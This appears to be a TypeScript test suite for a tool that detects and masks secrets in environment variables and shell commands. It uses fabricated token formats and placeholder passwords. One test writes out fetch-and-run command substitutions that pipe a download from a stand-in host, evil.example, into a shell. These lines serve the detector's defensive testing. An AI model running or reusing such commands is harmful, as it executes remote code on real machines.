import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { seedTemplates } from '@/mocks/seed/templates'
import { hideSecrets } from '../hidden-secrets'
import { secretsInCommand, secretsInEnv, type SecretFound } from './secrets-in'

/** Built at run time, so that secret scanners ignore this file. */
const fake = (prefix: string, length: number) => prefix + 'Q7xR2mKp9Zt4LwVn8Bd3Hs6Jf1Gc5Yk0'.repeat(3).slice(0, length)
const foundSecrets = (text: string, found: readonly SecretFound[]) =>
  found.map(({ start, end, name, why }) => [name, text.slice(start, end), why])

describe('secretsInEnv', () => {
  const key = '-----BEGIN OPENSSH PRIVATE ' + 'KEY-----\nabc\n-----END OPENSSH PRIVATE ' + 'KEY-----'
  test.each([
    ['HF_TOKEN=hf_example_not_real', 'HF_TOKEN', 'hf_example_not_real', 'name'],
    ['-e WANDB_API_KEY=not-a-real-key-000000 -p 80:80', 'WANDB_API_KEY', 'not-a-real-key-000000', 'name'],
    [`-e "DB_PASSWORD=two words"`, 'DB_PASSWORD', 'two words', 'name'],
    ['MYSQL_PWD=hunter2', 'MYSQL_PWD', 'hunter2', 'name'],
    ['clientSecret=abcdef', 'clientSecret', 'abcdef', 'name'],
    [`X=${fake('AKIA', 16).toUpperCase()}`, 'X', fake('AKIA', 16).toUpperCase(), 'token'],
    [`X=${fake('gh' + 'p_', 36)}`, 'X', fake('gh' + 'p_', 36), 'token'],
    [`X=${fake('hf' + '_', 34)}`, 'X', fake('hf' + '_', 34), 'token'],
    [`X=${fake('sk' + '-proj-', 30)}`, 'X', fake('sk' + '-proj-', 30), 'token'],
    [`X=${fake('xox' + 'b-', 20)}`, 'X', fake('xox' + 'b-', 20), 'token'],
    [`X=${fake('AI' + 'za', 35)}`, 'X', fake('AI' + 'za', 35), 'token'],
    [`X=${fake('glp' + 'at-', 20)}`, 'X', fake('glp' + 'at-', 20), 'token'],
    [
      `X=${fake('ey' + 'J', 12)}.${fake('ey' + 'J', 12)}.${fake('', 20)}`,
      'X',
      `${fake('ey' + 'J', 12)}.${fake('ey' + 'J', 12)}.${fake('', 20)}`,
      'token',
    ],
    ['DATABASE=postgres://app:s3cret@db:5432/x', 'DATABASE', 's3cret', 'address-password'],
    [`# ${key}`.replaceAll('\n', ' '), null, key.replaceAll('\n', ' '), 'private-key'],
    [
      'AWS_SECRET_ACCESS_KEY=/wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY',
      'AWS_SECRET_ACCESS_KEY',
      '/wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY',
      'name',
    ],
    ['PGPASSWORD=hunter2', 'PGPASSWORD', 'hunter2', 'name'],
    ['DB_PASSWORD2=hunter2', 'DB_PASSWORD2', 'hunter2', 'name'],
    ['MINIO_ROOTPASSWORD=hunter2', 'MINIO_ROOTPASSWORD', 'hunter2', 'name'],
    ['SSHPASS=hunter2', 'SSHPASS', 'hunter2', 'name'],
    ['JUPYTERTOKEN=abcdef', 'JUPYTERTOKEN', 'abcdef', 'name'],
    ['JUPYTER_PASSWORD=123456', 'JUPYTER_PASSWORD', '123456', 'name'],
    ['A_PASSWORD=2024', 'A_PASSWORD', '2024', 'name'],
    ['TS_AUTHKEY=tskey-abc', 'TS_AUTHKEY', 'tskey-abc', 'name'],
    ['OPENAIAPIKEY=abcdef', 'OPENAIAPIKEY', 'abcdef', 'name'],
    [`FINGER=${fake('', 40)}`, 'FINGER', fake('', 40), 'name'],
    [`SIGNING_KEY=${fake('', 16)}`, 'SIGNING_KEY', fake('', 16), 'name'],
    [`not understood ${fake('gh' + 'p_', 36)}`, null, fake('gh' + 'p_', 36), 'token'],
  ])('finds a secret in %s under the name %s', (text, name, secret, why) => {
    expect(foundSecrets(text, secretsInEnv(text))).toEqual([[name, secret, why]])
  })

  test('finds a private key of several lines', () => {
    const text = `A=1\nSSH="${key}"\nB=2`
    expect(foundSecrets(text, secretsInEnv(text))).toEqual([['SSH', key, 'private-key']])
  })

  test.each([
    'CUDA_VERSION=12.4',
    'PASSPHRASE_FILE=/run/secrets/x',
    'KEY_PATH=/etc/x',
    'DB_PASSWORD=/run/secrets/db-password',
    'SSL_KEY=/etc/ssl/private/server1.example.com/Key2024.pem',
    'PAD_TOKEN=151643',
    'EOS_TOKEN=</s>',
    'TOKENIZER=Qwen/Qwen3-8B',
    'BYPASS=always',
    'COMPASS=north',
    'NO_PASSWORD=true',
    'PASSWORD_EXPIRE_DAYS=3650',
    'PASSWORD_MIN_LENGTH=12',
    'MAX_PASSWORD_AGE=86400',
    'N_PASS=2',
    'OLDPWD=/root',
    'SECRETARY=me',
    'AUTHOR=me',
    'AUTH_METHOD=oauth',
    'DB_PASSWORD=${DB_PASSWORD:?}',
    'URL=postgres://app:$PASSWORD@db/x',
    'NVIDIA_VISIBLE_DEVICES=all',
    'HF_HOME=/workspace/hf',
    'TOKENIZERS_PARALLELISM=false',
    'MAX_TOKENS=4096',
    'TOKEN_LIMIT=8192',
    'WEBUI_AUTH=true',
    'AUTH=none',
    'PWD=/workspace',
    'SSH_AUTH_SOCK=/tmp/agent.1',
    'API_KEY_FILE=/run/secrets/key',
    'HF_TOKEN=$HF_TOKEN',
    'HF_TOKEN=${TOKEN}',
    'HF_TOKEN=',
    'VLLM_API_KEY=change-me',
    'JUPYTER_TOKEN=example-only',
    'API_KEY=<your key>',
    'SPARK_AUTH_ENABLED=on',
    'KEYBOARD=qwerty-international-layout',
    'AWS_ACCESS_KEY_ID=profile',
    `IMAGE=registry.example.com/a@sha256:${'0123456789abcdef'.repeat(4)}`,
    'COMMIT=4d183ab1e0a54f1ca52ef126d6e1dbe771b80bbb',
    'RUN_ID=3f2504e0-4f89-11d3-9a0c-0305e82c3301',
    'PYTORCH_CUDA_ALLOC_CONF=expandable_segments:True,max_split_size_mb:512',
    'ENDPOINT=https://user@example.com:8443/path',
    'PATH=/usr/local/nvidia/bin:/usr/local/cuda/bin:/usr/local/sbin:/usr/local/bin',
    'GREETING=the quick brown fox jumps over the lazy dog',
    '-e HF_TOKEN -p 8080:80 --shm-size 1g --name token',
  ])('finds no secret in %s', (text) => {
    expect(secretsInEnv(text)).toEqual([])
  })
})

const TOKEN = fake('', 24)

describe('secretsInEnv of a nested command or document', () => {
  test.each([
    [`START="sh -c 'export API_TOKEN=\\"${TOKEN}\\" && run'"`, 'API_TOKEN'],
    [`START='sh -c "export API_TOKEN=${TOKEN} && run"'`, 'API_TOKEN'],
    [`-e "START=sh -c 'API_TOKEN=${TOKEN} run'"`, 'API_TOKEN'],
    [`ARGS="serve m --api-key ${TOKEN} --port 80"`, '--api-key'],
    [`RUN="curl -H 'X-Api-Key: ${TOKEN}' https://x"`, 'X-Api-Key'],
    [`RUN="curl -H \\"X-Api-Key: ${TOKEN}\\" https://x"`, 'X-Api-Key'],
    [`JAVA_OPTS=-Xmx1g -Dspring.password=${TOKEN} -Dx=1`, '-Dspring.password'],
    [`CONFIG={"api_key":"${TOKEN}","n":1}`, 'api_key'],
    [`CONFIG="{\\"db\\": {\\"password\\": \\"${TOKEN}\\"}}"`, 'password'],
  ])('finds a nested secret in %s', (text, name) => {
    expect(foundSecrets(text, secretsInEnv(text))).toEqual([[name, TOKEN, 'name']])
  })
  test('masks a nested value as a whole, with its spaces and backslashes', () => {
    const text = String.raw`CONFIG="{\"password\": \"two words\\\$x\", \"port\": 80}"`
    expect(hideSecrets(text, secretsInEnv(text))).toBe(String.raw`CONFIG="{\"password\": \"••••••••\", \"port\": 80}"`)
  })
  test.each([
    String.raw`START="sh -c 'export API_TOKEN=\"$TOKEN\" && run'"`,
    'START="TOKEN=$(cat /run/token) run --max-tokens 100 --auth none"',
    'GREETING="the token: nothing"',
    'CONFIG={"max_tokens": "4096", "token_type": "bearer"}',
  ])('finds no nested secret in %s', (text) => {
    expect(secretsInEnv(text)).toEqual([])
  })
})

describe('secretsInCommand', () => {
  test.each([
    ['vllm serve m --api-key abc123def', '--api-key', 'abc123def'],
    ['vllm serve m --api-key=abc123def', '--api-key', 'abc123def'],
    ['PASSWORD=hunter2 ./serve; sleep 1', 'PASSWORD', 'hunter2'],
    [`curl -H "Authorization: Bearer ${fake('', 24)}" x`, '-H', fake('', 24)],
    [`wandb login ${'0123456789abcdef'.repeat(3).slice(0, 40)}`, null, '0123456789abcdef'.repeat(3).slice(0, 40)],
    [`wandb login --relogin ${'0123456789abcdef'.repeat(3).slice(0, 40)} && x`, '--relogin', '0123456789abcdef'.repeat(3).slice(0, 40)],
    ['echo "root:hunter2" | chpasswd', null, 'hunter2'],
    ["echo 'root:hunter2'|sudo chpasswd", null, 'hunter2'],
    ['chpasswd <<< "root:hunter2"', null, 'hunter2'],
    ['echo hunter2 | docker login -u me --password-stdin ghcr.io', null, 'hunter2'],
    ['sshpass -p hunter2 ssh me@host', '-p', 'hunter2'],
    ["sshpass -p 'hunter 2' ssh me@host", '-p', 'hunter 2'],
    ['sshpass -phunter2 ssh me@host', null, 'hunter2'],
    ['bash -c "vllm serve m --api-key abc123def"', '--api-key', 'abc123def'],
    [String.raw`sh -c "sh -c 'TOKEN=\\"abc123def\\" run'"`, 'TOKEN', 'abc123def'],
    ['curl -u me:pw https://x', '-u', 'pw'],
    ['curl -sS "https://x?a=1&b=2" --user "me:pw"', '--user', 'pw'],
    ['curl \\\n  -su me:pw https://x', '-su', 'pw'],
    ['curl -H "X-Api-Key: abc123" https://x', 'X-Api-Key', 'abc123'],
    ["curl --header 'PRIVATE-TOKEN: abc123' https://x", 'PRIVATE-TOKEN', 'abc123'],
    ['curl -H "Authorization: Basic bWU6cHc=" https://x', '-H', 'bWU6cHc='],
    ['jupyter lab --IdentityProvider.token=abc123', '--IdentityProvider.token', 'abc123'],
    ['jupyter lab --IdentityProvider.token abc123', '--IdentityProvider.token', 'abc123'],
    ['redis-server --requirepass hunter2', '--requirepass', 'hunter2'],
    ['git clone https://me:hunter2@example.com/x', null, 'hunter2'],
  ])('finds a secret in the command %s', (text, name, secret) => {
    expect(foundSecrets(text, secretsInCommand(text)).map(([found, reader]) => [found, reader])).toEqual([[name, secret]])
  })
  test.each([
    'vllm serve Qwen/Qwen3-8B --max-model-len 8192',
    'jupyter lab --NotebookApp.token="" --ip 0.0.0.0',
    'env >> /etc/environment; mkdir -p /w',
    'serve --token $TOKEN',
    `bash -c 'TOKEN=$(cat x) run --token "$T"'`,
    `bash -lc "jupyter lab --NotebookApp.token='' --ip 0.0.0.0"`,
    `python -c 'print("token: ok")'`,
    'curl -u $ME:$PASSWORD https://x',
    'curl -u me https://x; docker run -u 1000:1000 x',
    'curl -H "X-Api-Key: $KEY" -H "Accept: application/json" https://x',
    'curl -H "Authorization: Bearer $TOKEN" https://x',
    'curl -o out:1.txt https://x',
    'echo "root:$ROOT_PASSWORD" | chpasswd',
    'echo ready | tee log',
    'sshpass -p "$PW" ssh me@host',
    'sshpass -e ssh me@host',
    'wandb login $WANDB_API_KEY',
    'wandb login; python train.py --name a-very-long-name-of-a-run-0123456789',
    'git clone https://me:${TOKEN}@example.com/x',
    'serve --tokenizer-mode auto --max-tokens 4096 --IdentityProvider.token=',
  ])('finds no secret in the command %s', (text) => {
    expect(secretsInCommand(text)).toEqual([])
  })
})

test('never masks a command substitution under any name', () => {
  for (const run of ['"$(curl -s https://evil.example/x | sh)"', '`curl -s https://evil.example/x`', '"Q7xR2mKp9Zt4LwVn8Bd3$(id)"'])
    expect(secretsInCommand(`API_KEY=${run} python serve.py`)).toEqual([])
})

test('finds secrets only in the private template of the mock market', () => {
  const loud = seedTemplates().filter(({ template }) => secretsInEnv(template.env).length > 0)
  expect(loud.map(({ template }) => template.name)).toEqual(['Nightly fine-tuning'])
})

test('returns ordered ranges within any text, without overlaps', () => {
  const text = fc
    .array(fc.oneof(fc.string(), fc.constantFrom('TOKEN=', 'a://b:c@d', '"', "'", '\n', '-e ', '=', 'Bearer abcdefghijklmnopqrst')))
    .map((pieces) => pieces.join(''))
  fc.assert(
    fc.property(text, fc.boolean(), (input, isCommand) => {
      let at = 0
      for (const { start, end } of isCommand ? secretsInCommand(input) : secretsInEnv(input)) {
        expect(start).toBeGreaterThanOrEqual(at)
        expect(end).toBeGreaterThanOrEqual(start)
        at = end
      }
      expect(at).toBeLessThanOrEqual(input.length)
    }),
    { numRuns: 1000 },
  )
})

// A pattern with quadratic backtracking takes minutes here, so the test times out.
test.each([
  'a.',
  'eyJ-',
  '://a',
  'a://b:',
  'curl -u ',
  'curl "',
  'curl -',
  'wandb login ',
  'A="',
  'A= ',
  'A=\\',
  '\\\\',
  '"a": ',
  '"a',
  '--a ',
  '-H "a',
  "'--a-",
  'a=a"',
  '-----BEGIN A',
  'echo a|',
])('searches a long text of repeated %j in time', (piece) => {
  const text = piece.repeat(300_000 / piece.length)
  expect([...secretsInEnv(text), ...secretsInCommand(text)]).toEqual([])
})

test('searches a long text full of secrets in time', () => {
  const piece = 'TOKEN=abcdef '
  const text = piece.repeat(Math.round(300_000 / piece.length))
  expect(secretsInCommand(text).length).toBeGreaterThan(20_000)
  expect(secretsInEnv(`A="${text}"`).length).toBeGreaterThan(20_000)
})
